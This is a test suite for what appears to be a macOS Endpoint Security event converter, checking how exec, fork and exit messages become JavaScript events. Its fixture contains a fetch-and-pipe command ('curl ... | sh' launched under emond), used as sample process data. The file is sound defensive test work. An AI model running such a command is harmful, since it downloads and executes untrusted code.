import { afterEach, describe, expect, it } from 'vitest';
import { EMOND, collect, deliver, emondShellExec, resetSimulator, shProcess, sim } from './sim-helpers.js';

afterEach(resetSimulator);

describe('exec conversion', () => {
  it('copies every field of a version 7 exec', async () => {
    sim().setProcessTable([{ pid: 300, ppid: 1, pidversion: 7, executable: EMOND }]);
    const c = collect();
    deliver([emondShellExec()]);
    const [event] = await c.waitFor(1);
    expect(event).toMatchObject({
      type: 'exec',
      version: 7,
      timeSec: 1_754_572_895,
      timeNsec: 880_814_738,
      seqNum: 1,
      globalSeqNum: 1,
      args: ['/bin/sh', '-c', 'curl -s http://example.invalid/x | sh'],
      argCount: 3,
      argsTruncated: false,
      cwd: '/',
      cwdTruncated: false,
      parentExecutable: EMOND,
      parentPathVerified: true,
      instigator: { pid: 301, pidversion: 11, executable: EMOND, executableTruncated: false },
      process: {
        pid: 301,
        pidversion: 12,
        ppid: 300,
        originalPpid: 300,
        auid: 4294967295,
        euid: 0,
        codesigningFlags: 0x2000_0001,
        isPlatformBinary: true,
        executable: '/bin/sh',
        executableTruncated: false,
        signingId: 'com.apple.sh',
        teamId: '',
        cdhash: '28CD2C759132B07D63C3A2B377AD440A6C66098E',
        startSec: 1_754_572_895,
        startUsec: 877_422,
        parentPid: 300,
        parentPidversion: 7,
        responsiblePid: 300,
      },
    });
    expect(event?.script).toBeUndefined();
    expect(event?.process.tty).toBeUndefined();
    expect(event?.handlerEntryNs).toBeGreaterThan(0);
  });

  // What each message version may carry (Apple's ESMessage.h): the simulator fills fields newer
  // than the version with poison values, so a reader that ignores the version shows them here.
  const versions = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10];
  it.each(versions)('reads only the fields message version %i carries', async (version) => {
    sim().setProcessTable([{ pid: 300, ppid: 1, pidversion: 7, executable: EMOND }]);
    const c = collect();
    deliver([
      emondShellExec({
        version,
        target: shProcess({ tty: '/dev/ttys003' }),
        script: '/tmp/run.sh',
      }),
    ]);
    const [event] = await c.waitFor(1);
    const json = JSON.stringify(event);
    expect(json).not.toContain('poison');
    expect(json).not.toContain(String(0xdeadbeef));
    expect(event?.seqNum).toBe(version >= 2 ? 1 : undefined);
    expect(event?.process.tty).toBe(version >= 2 ? '/dev/ttys003' : undefined);
    expect(event?.script).toBe(version >= 2 ? '/tmp/run.sh' : undefined);
    expect(event?.process.startSec).toBe(version >= 3 ? 1_754_572_895 : undefined);
    expect(event?.cwd).toBe(version >= 3 ? '/' : undefined);
    expect(event?.globalSeqNum).toBe(version >= 4 ? 1 : undefined);
    expect(event?.process.parentPid).toBe(version >= 4 ? 300 : undefined);
    expect(event?.process.parentPidversion).toBe(version >= 4 ? 7 : undefined);
    expect(event?.process.responsiblePid).toBe(version >= 4 ? 300 : undefined);
    // The parent path is checked against the parent's pidversion only when the token exists.
    expect(event?.parentExecutable).toBe(EMOND);
    expect(event?.parentPathVerified).toBe(version >= 4);
  });

  it('reads strings by length: unicode, embedded NUL, invalid UTF-8, adjacent strings without terminators', async () => {
    const c = collect();
    const unicode = '/Users/zoë/Library/Application Support/日本語/emond 🙂';
    deliver([
      emondShellExec({
        target: shProcess({ executable: unicode, signingId: 'a', teamId: 'B' }),
        args: [Buffer.from('with\0nul'), Buffer.from([0x2f, 0xff, 0x62]), '', 'x'],
      }),
    ]);
    const [event] = await c.waitFor(1);
    expect(event?.process.executable).toBe(unicode);
    expect(event?.process.signingId).toBe('a');
    expect(event?.process.teamId).toBe('B');
    expect(event?.args).toEqual(['with\0nul', '/\uFFFDb', '', 'x']);
  });

  it('replaces invalid UTF-8 exactly as Node decodes it, without shifting the strings after it', async () => {
    const c = collect();
    const samples = [
      [0xc0, 0x80], // overlong
      [0xed, 0xa0, 0x80], // UTF-16 surrogate
      [0xf4, 0x90, 0x80, 0x80], // above U+10FFFF
      [0xe2, 0x82], // truncated 3-byte sequence
      [0xf0, 0x9f, 0x99], // truncated 4-byte sequence
      [0x61, 0xe2, 0x28, 0xa1, 0x62], // bad continuation, then a byte that is a new start
      [0xf0, 0x9f, 0x99, 0x82], // valid emoji (a surrogate pair in UTF-16)
      [0xff, 0xfe, 0x80],
    ].map((bytes) => Buffer.from(bytes));
    deliver([emondShellExec({ args: samples.flatMap((bytes) => [bytes, 'after']) })]);
    const [event] = await c.waitFor(1);
    expect(event?.args).toEqual(samples.flatMap((bytes) => [bytes.toString('utf8'), 'after']));
  });

  it('keeps 16 KiB paths whole and passes the truncated flag through', async () => {
    const c = collect();
    const long = `/${'d/'.repeat(8191)}e`;
    expect(long.length).toBe(16_384);
    deliver([
      emondShellExec({
        target: shProcess({ executable: { path: long, truncated: true } }),
        cwd: { path: long, truncated: true },
        process: { pid: 301, pidversion: 11, executable: { path: '/x/truncat', truncated: true } },
      }),
    ]);
    const [event] = await c.waitFor(1);
    expect(event?.process.executable).toBe(long);
    expect(event?.process.executableTruncated).toBe(true);
    expect(event?.cwd).toBe(long);
    expect(event?.cwdTruncated).toBe(true);
    expect(event?.instigator.executableTruncated).toBe(true);
  });

  it('caps the argument count and flags the truncation', async () => {
    const c = collect({ maxArgs: 3 });
    const args = Array.from({ length: 10 }, (_, i) => `arg${i}`);
    deliver([emondShellExec({ args })]);
    const [event] = await c.waitFor(1);
    expect(event?.args).toEqual(['arg0', 'arg1', 'arg2']);
    expect(event?.argCount).toBe(10);
    expect(event?.argsTruncated).toBe(true);
  });

  it('caps the argument bytes and keeps only whole arguments', async () => {
    const c = collect({ maxArgBytes: 10 });
    deliver([emondShellExec({ args: ['12345', '6789', '0ab', 'cd'] })]);
    const [event] = await c.waitFor(1);
    expect(event?.args).toEqual(['12345', '6789']);
    expect(event?.argCount).toBe(4);
    expect(event?.argsTruncated).toBe(true);
  });

  it('copies a huge argv within the default caps', async () => {
    const c = collect();
    const args = Array.from({ length: 1000 }, (_, i) => `argument-${i}-${'x'.repeat(100)}`);
    deliver([emondShellExec({ args })]);
    const [event] = await c.waitFor(1);
    expect(event?.args).toEqual(args);
    expect(event?.argsTruncated).toBe(false);
    const c2 = collect({ maxArgs: 5000, maxArgBytes: 1 << 20 });
    const many = Array.from({ length: 20_000 }, (_, i) => `${i}`);
    deliver([emondShellExec({ args: many })]);
    const [second] = await c2.waitFor(1);
    expect(second?.argCount).toBe(20_000);
    expect(second?.args).toHaveLength(5000);
    expect(second?.argsTruncated).toBe(true);
  });

  it('cuts one giant argument to maxArgLength bytes, on a UTF-8 boundary, and flags the truncation', async () => {
    const c = collect({ maxArgLength: 9 });
    // 'é' is two bytes: byte 9 falls inside the fifth one, so the cut backs off to 8 bytes.
    deliver([emondShellExec({ args: ['/bin/sh', '-c', 'abcdefghijklmnop', 'ééééééé', 'short'] })]);
    const [event] = await c.waitFor(1);
    expect(event?.args).toEqual(['/bin/sh', '-c', 'abcdefghi', 'éééé', 'short']);
    expect(event?.argCount).toBe(5);
    expect(event?.argsTruncated).toBe(true);
  });

  it('cuts paths, signing ids and the working directory at 16 KiB, so no event exceeds a known size', async () => {
    const c = collect();
    const huge = `/${'p'.repeat(100_000)}`;
    deliver([
      emondShellExec({
        target: shProcess({ executable: huge, signingId: 's'.repeat(20_000), teamId: 't'.repeat(20_000), tty: huge }),
        process: { pid: 301, pidversion: 11, ppid: 300, executable: huge },
        cwd: huge,
        script: huge,
      }),
    ]);
    const [event] = await c.waitFor(1);
    expect(event?.process.executable).toHaveLength(16_384);
    expect(event?.process.executableTruncated).toBe(true);
    expect(event?.process.signingId).toHaveLength(16_384);
    expect(event?.process.teamId).toHaveLength(16_384);
    expect(event?.process.tty).toHaveLength(16_384);
    expect(event?.instigator.executable).toHaveLength(16_384);
    expect(event?.instigator.executableTruncated).toBe(true);
    expect(event?.cwd).toHaveLength(16_384);
    expect(event?.cwdTruncated).toBe(true);
    expect(event?.script).toHaveLength(16_384);
  });

  it('does not lend a reused pid its path: pidversion mismatch leaves the parent unresolved', async () => {
    // pid 300 now belongs to a later execution (pidversion 9), not the parent (7) of the message.
    sim().setProcessTable([{ pid: 300, ppid: 1, pidversion: 9, executable: '/usr/bin/innocent' }]);
    const c = collect();
    deliver([emondShellExec({ version: 4 }), emondShellExec({ version: 3 })]);
    const [verifiedVersion, ppidOnly] = await c.waitFor(2);
    expect(verifiedVersion?.parentExecutable).toBeUndefined();
    expect(ppidOnly?.parentExecutable).toBe('/usr/bin/innocent');
    expect(ppidOnly?.parentPathVerified).toBe(false);
  });
});

describe('parent path from executions seen on the ES thread', () => {
  const emondFork = {
    type: 'fork' as const,
    process: { pid: 300, pidversion: 7, executable: EMOND },
    child: { pid: 301, pidversion: 11, ppid: 300, executable: EMOND },
  };

  it('resolves the parent from an earlier fork or exec without asking the kernel', async () => {
    // The process table is empty: proc_pidpath* would find nothing, so only the cache can answer.
    const c = collect();
    deliver([emondFork, emondShellExec()]);
    const [, exec] = await c.waitFor(2);
    expect(exec?.parentExecutable).toBe(EMOND);
    expect(exec?.parentPathVerified).toBe(true);
  });

  it('forgets an execution when it exits, and never serves a truncated path', async () => {
    const c = collect();
    deliver([
      emondFork,
      { type: 'exit', process: { pid: 300, pidversion: 7, executable: EMOND } },
      emondShellExec(),
      { ...emondFork, process: { pid: 300, pidversion: 7, executable: { path: '/sbin/emo', truncated: true } } },
      emondShellExec(),
    ]);
    const events = await c.waitFor(5);
    expect(events[2]?.parentExecutable).toBeUndefined();
    expect(events[4]?.parentExecutable).toBeUndefined();
  });

  it('does not use the cache without the parent token (version < 4)', async () => {
    const c = collect();
    deliver([emondFork, emondShellExec({ version: 3 })]);
    const [, exec] = await c.waitFor(2);
    expect(exec?.parentExecutable).toBeUndefined();
  });
});

describe('fork and exit conversion', () => {
  it('reports the fork child and the forking parent', async () => {
    const c = collect();
    deliver([
      {
        type: 'fork',
        version: 6,
        process: { pid: 300, pidversion: 7, executable: EMOND },
        child: { pid: 301, pidversion: 11, ppid: 300, executable: EMOND, parent: { pid: 300, pidversion: 7 } },
      },
    ]);
    const [event] = await c.waitFor(1);
    expect(event).toMatchObject({
      type: 'fork',
      process: { pid: 301, pidversion: 11, ppid: 300, executable: EMOND, parentPid: 300 },
      instigator: { pid: 300, pidversion: 7, executable: EMOND },
    });
    expect(event?.args).toBeUndefined();
  });

  it('reports the exit status', async () => {
    const c = collect();
    deliver([{ type: 'exit', version: 5, process: { pid: 301, pidversion: 12, executable: '/bin/sh' }, exitStatus: 3 << 8 }]);
    const [event] = await c.waitFor(1);
    expect(event).toMatchObject({ type: 'exit', exitStatus: 768, process: { pid: 301, executable: '/bin/sh' } });
  });

  it('never hands JavaScript a message type it did not subscribe to', async () => {
    const c = collect();
    deliver([{ type: 'open', version: 7, process: { pid: 1, executable: '/sbin/launchd' } }, emondShellExec()]);
    const events = await c.waitFor(1);
    expect(events.map((e) => e.type)).toEqual(['exec']);
  });
});
